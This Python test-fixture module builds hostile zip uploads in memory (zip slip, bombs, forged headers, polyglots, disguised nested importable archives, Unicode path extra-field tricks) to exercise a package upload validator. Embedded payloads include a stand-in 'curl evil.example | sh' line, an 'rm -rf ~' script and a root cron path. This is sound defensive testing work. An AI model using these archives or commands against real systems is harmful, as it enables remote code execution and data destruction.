"""Test zips: the sample package as published, and every hostile kind of upload.

Archives are built in memory with ``zipfile`` and, where ``zipfile`` refuses to write
something hostile (a NUL in a name, an encrypted flag, a lying size), patched afterwards
at the byte level in both the local header and the central directory.
"""

import base64
import gzip
import io
import json
import os
import random
import stat
import struct
import warnings
import zipfile
import zlib
from collections.abc import Callable, Iterable
from dataclasses import dataclass
from functools import cache
from pathlib import Path

TECHNICAL_NAME = "hello_fastvue"


def _samples_root() -> Path:
    """``FASTVUE_SAMPLES``, else ``shared/samples`` beside the repository, else the one
    on the development machines."""
    if "FASTVUE_SAMPLES" in os.environ:
        return Path(os.environ["FASTVUE_SAMPLES"])
    beside = Path(__file__).resolve().parents[2] / "shared" / "samples"
    return beside if beside.is_dir() else Path("/work/shared/samples")


SAMPLE_DIR = _samples_root() / "hello_fastvue" / TECHNICAL_NAME
MANIFEST = f"{TECHNICAL_NAME}/manifest.json"
FILE_MODE = stat.S_IFREG | 0o644
DIR_MODE = stat.S_IFDIR | 0o755
MiB = 1024 * 1024


@dataclass(frozen=True)
class Entry:
    """One entry to write: a folder when ``name`` ends with ``/``."""

    name: str
    data: bytes = b""
    mode: int | None = None
    compress_type: int = zipfile.ZIP_DEFLATED
    dos_attr: int = 0
    extra: bytes = b""

    def info(self) -> zipfile.ZipInfo:
        info = zipfile.ZipInfo(self.name, date_time=(2026, 1, 1, 0, 0, 0))
        info.create_system = 3
        is_dir = self.name.endswith("/")
        mode = self.mode if self.mode is not None else (DIR_MODE if is_dir else FILE_MODE)
        info.external_attr = (mode << 16) | self.dos_attr | (0x10 if is_dir else 0)
        info.compress_type = zipfile.ZIP_STORED if is_dir else self.compress_type
        info.extra = self.extra  # zipfile writes it in the local header and the directory
        return info


@cache
def sample_files() -> dict[str, bytes]:
    """The sample's files by archive name, read from ``SAMPLE_DIR``."""
    assert (SAMPLE_DIR / "manifest.json").is_file(), f"sample package missing at {SAMPLE_DIR}"
    return {
        f"{TECHNICAL_NAME}/{path.relative_to(SAMPLE_DIR).as_posix()}": path.read_bytes()
        for path in sorted(SAMPLE_DIR.rglob("*"))
        if path.is_file()
    }


def sample_manifest() -> dict:
    return json.loads(sample_files()[MANIFEST])


def zip_sample_folder(target: Path) -> Path:
    """Zip the sample folder the way its README says (``python -m zipfile -c``)."""
    zipfile.main(["-c", str(target), str(SAMPLE_DIR)])
    return target


def package_entries(
    *,
    manifest: dict | bytes | None = None,
    without: Iterable[str] = (),
    folders: bool = True,
) -> list[Entry]:
    """The sample as entries, with folder entries, optionally another manifest or less."""
    files = dict(sample_files())
    if manifest is not None:
        files[MANIFEST] = manifest if isinstance(manifest, bytes) else json.dumps(manifest).encode()
    for name in without:
        del files[name]
    entries: list[Entry] = []
    seen: set[str] = set()
    for name, data in files.items():
        parts = name.split("/")
        for depth in range(1, len(parts)):
            folder = "/".join(parts[:depth]) + "/"
            if folders and folder not in seen:
                seen.add(folder)
                entries.append(Entry(folder))
        entries.append(Entry(name, data))
    return entries


def build_zip(entries: Iterable[Entry]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for entry in entries:
            archive.writestr(entry.info(), entry.data)
    return buffer.getvalue()


def streamed_zip(entries: Iterable[Entry]) -> bytes:
    """Written to an unseekable stream, so every entry has a data descriptor (flag bit 3)."""

    class Unseekable(io.RawIOBase):
        def __init__(self) -> None:
            self.buffer = bytearray()

        def writable(self) -> bool:
            return True

        def write(self, data) -> int:
            self.buffer += data
            return len(data)

    stream = Unseekable()
    with zipfile.ZipFile(stream, "w") as archive:
        for entry in entries:
            archive.writestr(entry.info(), entry.data)
    return bytes(stream.buffer)


def sample_zip() -> bytes:
    return build_zip(package_entries())


def zip64_zip(entries: Iterable[Entry]) -> bytes:
    """Zip64 extra fields on every entry, and an archive comment."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.comment = b"built for tests"
        for entry in entries:
            with archive.open(entry.info(), "w", force_zip64=True) as member:
                member.write(entry.data)
    return buffer.getvalue()


def with_entries(*extra: Entry) -> bytes:
    return build_zip([*package_entries(), *extra])


# --- byte-level patches -------------------------------------------------------------------

_CD_FIELDS = {"flag_bits": (8, "<H"), "crc": (16, "<L"), "compress_size": (20, "<L")}
_CD_FIELDS |= {"file_size": (24, "<L")}
_LOCAL_FIELDS = {"flag_bits": (6, "<H"), "crc": (14, "<L"), "compress_size": (18, "<L")}
_LOCAL_FIELDS |= {"file_size": (22, "<L")}


def _end_record(data: bytes) -> int:
    return data.rindex(b"PK\x05\x06")


def _central_records(data: bytes) -> list[tuple[int, str, int]]:
    """(record offset, name, local header offset) for each central directory record."""
    end = _end_record(data)
    count, _size, offset = struct.unpack_from("<HLL", data, end + 10)
    records = []
    position = offset
    for _ in range(count):
        assert data[position : position + 4] == b"PK\x01\x02"
        name_length, extra_length, comment_length = struct.unpack_from("<3H", data, position + 28)
        name = data[position + 46 : position + 46 + name_length].decode("utf-8")
        (local,) = struct.unpack_from("<L", data, position + 42)
        records.append((position, name, local))
        position += 46 + name_length + extra_length + comment_length
    return records


def patch_entry(data: bytes, name: str, *, local: bool = True, **fields: int) -> bytes:
    """Overwrite header fields of the entry ``name`` (central directory, and local header
    unless ``local=False``); a callable value gets the current one."""
    patched = bytearray(data)
    for record, record_name, local_at in _central_records(data):
        if record_name != name:
            continue
        for field, value in fields.items():
            places = [(record, *_CD_FIELDS[field])]
            if local:
                places.append((local_at, *_LOCAL_FIELDS[field]))
            for base, offset, fmt in places:
                (current,) = struct.unpack_from(fmt, patched, base + offset)
                new = value(current) if callable(value) else value
                struct.pack_into(fmt, patched, base + offset, new)
        return bytes(patched)
    raise KeyError(name)


def rename(data: bytes, placeholder: str, name: bytes) -> bytes:
    """Give an entry a name ``zipfile`` would not write (same length as the placeholder)."""
    old = placeholder.encode()
    assert len(old) == len(name) and data.count(old) == 2
    return data.replace(old, name)


def insert_before_directory(data: bytes, junk: bytes) -> bytes:
    """Bytes between the last entry and the central directory, offsets kept consistent."""
    end = _end_record(data)
    (offset,) = struct.unpack_from("<L", data, end + 16)
    patched = bytearray(data[:offset] + junk + data[offset:])
    struct.pack_into("<L", patched, end + len(junk) + 16, offset + len(junk))
    return bytes(patched)


def with_zip64_end(data: bytes, *, count: int | None = None, size: int | None = None) -> bytes:
    """Move the entry count and directory size to Zip64 end records, as writers do for
    big archives (``zipfile`` only does past 65535 entries); ``count`` and ``size`` lie."""
    end = _end_record(data)
    real_count, real_size, offset = struct.unpack_from("<HLL", data, end + 10)
    count = real_count if count is None else count
    size = real_size if size is None else size
    zip64_end = struct.pack(
        "<4sQ2H2L4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, count, count, size, offset
    )
    locator = struct.pack("<4sLQL", b"PK\x06\x07", 0, end, 1)
    end_record = struct.pack(
        "<4s4H2LH", b"PK\x05\x06", 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0
    )
    return data[:end] + zip64_end + locator + end_record


# --- hostile archives ---------------------------------------------------------------------


def zip_slip() -> bytes:
    return with_entries(Entry("../evil.py", b"print('escaped')\n"))


def zip_slip_inside() -> bytes:
    return with_entries(Entry(f"{TECHNICAL_NAME}/../../etc/cron.d/evil", b"* * * * * root x\n"))


def absolute_path() -> bytes:
    return with_entries(Entry("/etc/evil.py", b"x = 1\n"))


def backslash_path() -> bytes:
    return with_entries(Entry(f"{TECHNICAL_NAME}\\..\\evil.py", b"x = 1\n"))


def drive_letter() -> bytes:
    return with_entries(Entry("C:/Windows/evil.py", b"x = 1\n"))


def alternate_data_stream() -> bytes:
    return with_entries(Entry(f"{TECHNICAL_NAME}/models/__init__.py:hidden", b"x = 1\n"))


def symlink_entry() -> bytes:
    return with_entries(
        Entry(f"{TECHNICAL_NAME}/passwd", b"/etc/passwd", mode=stat.S_IFLNK | 0o777)
    )


def windows_reparse_point() -> bytes:
    return with_entries(Entry(f"{TECHNICAL_NAME}/junction", b"C:\\Windows", dos_attr=0x400))


def special_file(kind: int) -> Callable[[], bytes]:
    def build() -> bytes:
        return with_entries(Entry(f"{TECHNICAL_NAME}/dev", b"", mode=kind | 0o600))

    return build


def encrypted_entry() -> bytes:
    return patch_entry(sample_zip(), f"{TECHNICAL_NAME}/__init__.py", flag_bits=lambda f: f | 1)


def ratio_bomb() -> bytes:
    """8 MiB of zeros deflate to about 8 KiB: a ratio near 1000."""
    return with_entries(Entry(f"{TECHNICAL_NAME}/static/zeros.txt", bytes(8 * MiB)))


def declared_size_bomb() -> bytes:
    """Two stored entries whose headers claim 150 MiB each (the data is small)."""
    data = with_entries(
        Entry(f"{TECHNICAL_NAME}/a.txt", b"a" * 100, compress_type=zipfile.ZIP_STORED),
        Entry(f"{TECHNICAL_NAME}/b.txt", b"b" * 100, compress_type=zipfile.ZIP_STORED),
    )
    for name in ("a.txt", "b.txt"):
        data = patch_entry(
            data, f"{TECHNICAL_NAME}/{name}", file_size=150 * MiB, compress_size=150 * MiB
        )
    return data


def real_size_bomb() -> bytes:
    """About 600 KiB of incompressible data: over a 512 KiB limit, honestly declared.
    Seeded, so it is the same bytes every run (random bytes can hold a signature the
    content check refuses, such as a zip's end record)."""
    chunks = [random.Random(f"size-bomb-{i}").randbytes(200 * 1024) for i in range(3)]
    return with_entries(
        *(
            Entry(f"{TECHNICAL_NAME}/static/blob{i}.png", chunk, compress_type=zipfile.ZIP_STORED)
            for i, chunk in enumerate(chunks)
        )
    )


def too_many_entries(count: int = 2001) -> bytes:
    return with_entries(*(Entry(f"{TECHNICAL_NAME}/data/{i}.txt", b"x") for i in range(count)))


def not_a_zip() -> bytes:
    return b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj << /Type /Catalog >> endobj\n" * 20


def empty_file() -> bytes:
    return b""


def truncated_zip() -> bytes:
    data = sample_zip()
    return data[: len(data) // 2]


def garbled_directory() -> bytes:
    data = bytearray(sample_zip())
    first_record = _central_records(bytes(data))[0][0]
    data[first_record : first_record + 4] = b"XXXX"
    return bytes(data)


def miscounted_directory() -> bytes:
    data = bytearray(sample_zip())
    end = _end_record(bytes(data))
    for offset in (8, 10):
        (count,) = struct.unpack_from("<H", data, end + offset)
        struct.pack_into("<H", data, end + offset, count - 1)
    return bytes(data)


def huge_declared_count() -> bytes:
    data = bytearray(sample_zip())
    end = _end_record(bytes(data))
    struct.pack_into("<HH", data, end + 8, 60_000, 60_000)
    return bytes(data)


def huge_zip64_count() -> bytes:
    return with_zip64_end(sample_zip(), count=60_000)


def huge_zip64_directory() -> bytes:
    return with_zip64_end(sample_zip(), size=3 * MiB)


def empty_zip() -> bytes:
    return build_zip([])


def only_folders() -> bytes:
    return build_zip([Entry(f"{TECHNICAL_NAME}/"), Entry(f"{TECHNICAL_NAME}/api/")])


def missing_manifest() -> bytes:
    return build_zip(package_entries(without=[MANIFEST]))


def manifest_as_folder() -> bytes:
    return build_zip([*package_entries(without=[MANIFEST]), Entry(f"{MANIFEST}/")])


def oversized_manifest() -> bytes:
    """Over 64 KiB of hardly compressible JSON, so only its size is wrong."""
    noise = base64.b64encode(os.urandom(52 * 1024)).decode()
    return build_zip(package_entries(manifest={**sample_manifest(), "description": noise}))


def malformed_manifest() -> bytes:
    return build_zip(package_entries(manifest=b'{"technical_name": "hello_fastvue", "version": '))


def wrong_technical_name_manifest() -> bytes:
    return build_zip(package_entries(manifest={**sample_manifest(), "technical_name": "other"}))


def non_semver_manifest() -> bytes:
    return build_zip(package_entries(manifest={**sample_manifest(), "version": "1.0"}))


def two_top_level_folders() -> bytes:
    return with_entries(Entry("__MACOSX/"), Entry("__MACOSX/._manifest.json", b"\0\5\26\7"))


def top_level_file() -> bytes:
    return with_entries(Entry("README.md", b"# Hello\n"))


def wrong_top_level_name() -> bytes:
    entries = package_entries()
    return build_zip(
        Entry("other_module" + e.name.removeprefix(TECHNICAL_NAME), e.data) for e in entries
    )


def lying_header() -> bytes:
    """A member declares 100 bytes; its data inflates to 4 MiB (CRC of the real data)."""
    data = with_entries(Entry(f"{TECHNICAL_NAME}/big.py", b"# padding\n" * (400 * 1024)))
    return patch_entry(data, f"{TECHNICAL_NAME}/big.py", file_size=100)


def short_member() -> bytes:
    """A member declares more bytes than its data holds."""
    return patch_entry(sample_zip(), f"{TECHNICAL_NAME}/api/routes.py", file_size=lambda n: n + 7)


def bad_crc() -> bytes:
    return patch_entry(sample_zip(), f"{TECHNICAL_NAME}/api/routes.py", crc=lambda c: c ^ 1)


def duplicate_entry() -> bytes:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)  # zipfile: "Duplicate name"
        return with_entries(Entry(f"{TECHNICAL_NAME}/__init__.py", b"import os\n"))


def case_collision() -> bytes:
    return with_entries(Entry(f"{TECHNICAL_NAME}/API/routes.py", b"x = 1\n"))


def unicode_collision() -> bytes:
    return with_entries(
        Entry(f"{TECHNICAL_NAME}/caf\u00e9.py", b"x = 1\n"),
        Entry(f"{TECHNICAL_NAME}/cafe\u0301.py", b"x = 2\n"),
    )


def file_and_folder() -> bytes:
    return with_entries(Entry(f"{TECHNICAL_NAME}/api", b"not a folder"))


def nul_in_name() -> bytes:
    """``zipfile`` would cut the name at the NUL on reading: ``evil.py\\0.txt``."""
    data = with_entries(Entry(f"{TECHNICAL_NAME}/evil.py_.txt", b"x = 1\n"))
    return rename(
        data, f"{TECHNICAL_NAME}/evil.py_.txt", f"{TECHNICAL_NAME}/evil.py\0.txt".encode()
    )


def control_character_in_name() -> bytes:
    return with_entries(Entry(f"{TECHNICAL_NAME}/evil\x1b[2J.py", b"x = 1\n"))


def bidi_override_in_name() -> bytes:
    return with_entries(Entry(f"{TECHNICAL_NAME}/readme\u202etxt.py", b"x = 1\n"))


def empty_component() -> bytes:
    return with_entries(Entry(f"{TECHNICAL_NAME}//evil.py", b"x = 1\n"))


def dot_component() -> bytes:
    return with_entries(Entry(f"{TECHNICAL_NAME}/./evil.py", b"x = 1\n"))


def trailing_dot() -> bytes:
    return with_entries(Entry(f"{TECHNICAL_NAME}/evil.py.", b"x = 1\n"))


def long_name() -> bytes:
    return with_entries(Entry(f"{TECHNICAL_NAME}/{'a' * 300}.py", b"x = 1\n"))


def compiled_code() -> bytes:
    return with_entries(
        Entry(f"{TECHNICAL_NAME}/__pycache__/__init__.cpython-311.pyc", b"\xa7\r\r\n" + bytes(12))
    )


def native_extension() -> bytes:
    return with_entries(
        Entry(f"{TECHNICAL_NAME}/speedups.cpython-311-x86_64-linux-gnu.so", b"\x7fELF")
    )


def bzip2_entry() -> bytes:
    return with_entries(
        Entry(f"{TECHNICAL_NAME}/data.txt", b"x" * 100, compress_type=zipfile.ZIP_BZIP2)
    )


def overlapping_entries() -> bytes:
    """The first file's data is declared to run on over the next entry's header."""
    data = sample_zip()
    first_file = next(name for _, name, _ in _central_records(data) if not name.endswith("/"))
    return patch_entry(data, first_file, compress_size=lambda n: n + 40)


def prepended_data() -> bytes:
    """A polyglot: something else first, the zip after it (``zipfile`` accepts it)."""
    return b"MZ\x90\x00" + bytes(508) + sample_zip()


def hidden_before_directory() -> bytes:
    hidden = build_zip([Entry(f"{TECHNICAL_NAME}/hidden.py", b"import os\nos.system('x')\n")])
    return insert_before_directory(sample_zip(), hidden[: hidden.index(b"PK\x01\x02")])


def trailing_bytes_in_member() -> bytes:
    """The last member's deflate stream ends before its declared compressed size."""
    data = with_entries(Entry(f"{TECHNICAL_NAME}/last.py", b"x = 1\n" * 100))
    data = insert_before_directory(data, b"junk!")
    return patch_entry(data, f"{TECHNICAL_NAME}/last.py", compress_size=lambda n: n + 5)


def unicode_extra(header_id: int, name: str, text: str) -> bytes:
    """An Info-ZIP Unicode path (0x7075) or comment (0x6375) extra field for ``name``:
    version 1, the CRC-32 of the header's own name or comment, then the UTF-8 text."""
    body = b"\x01" + struct.pack("<L", zlib.crc32(name.encode())) + text.encode()
    return struct.pack("<HH", header_id, len(body)) + body


_DECOY = f"{TECHNICAL_NAME}/notes.txt"
_HIDDEN_CODE = b"import os\nos.system('curl evil.example | sh')\n"


def unicode_path_extra(target: str = f"{TECHNICAL_NAME}/evil.py") -> bytes:
    """A harmless name in both headers, but ``unzip`` writes the file as ``target``."""
    return with_entries(Entry(_DECOY, _HIDDEN_CODE, extra=unicode_extra(0x7075, _DECOY, target)))


def unicode_path_extra_native() -> bytes:
    return unicode_path_extra(f"{TECHNICAL_NAME}/_speedups.cpython-311-x86_64-linux-gnu.so")


def unicode_comment_extra() -> bytes:
    return with_entries(Entry(_DECOY, b"notes\n", extra=unicode_extra(0x6375, "", "pkg/evil.py")))


def unicode_path_extra_local_only() -> bytes:
    """The directory's extra field is renumbered to an unknown (ignored) ID; the local
    header still carries the Unicode path, for extractors that walk local headers."""
    data = unicode_path_extra()
    patched = bytearray(data)
    for record, name, _ in _central_records(data):
        if name == _DECOY:
            struct.pack_into("<H", patched, record + 46 + len(name.encode()), 0xCAFE)
    assert bytes(patched) != data
    return bytes(patched)


def vendored_code() -> bytes:
    """A zip of code with an ``__init__`` that puts it on ``sys.path``."""
    return build_zip([Entry("evil/__init__.py", _HIDDEN_CODE)])


def nested_archive(name: str = "vendor.zip") -> Callable[[], bytes]:
    def build() -> bytes:
        here = "os.path.dirname(__file__)"
        init = f"import sys, os\nsys.path.insert(0, os.path.join({here}, {name!r}))\n"
        return with_entries(
            Entry(f"{TECHNICAL_NAME}/{name}", vendored_code()),
            Entry(f"{TECHNICAL_NAME}/loader.py", init.encode()),
        )

    return build


def disguised_nested_archive() -> bytes:
    """A zip under an allowed name: ``zipimport`` reads it from any file on ``sys.path``."""
    return nested_archive("vendor.txt")()


def polyglot_image() -> bytes:
    """A real-looking PNG with a zip of code appended: still importable from."""
    png = b"\x89PNG\r\n\x1a\n" + bytes(64)
    return with_entries(Entry(f"{TECHNICAL_NAME}/static/logo.png", png + vendored_code()))


def gzip_member() -> bytes:
    return with_entries(Entry(f"{TECHNICAL_NAME}/data.json", gzip.compress(b"{}")))


def disguised_native_code() -> bytes:
    return with_entries(Entry(f"{TECHNICAL_NAME}/helper", b"\x7fELF\x02\x01\x01" + bytes(57)))


def disallowed_file_type() -> bytes:
    return with_entries(Entry(f"{TECHNICAL_NAME}/install.sh", b"#!/bin/sh\nrm -rf ~\n"))
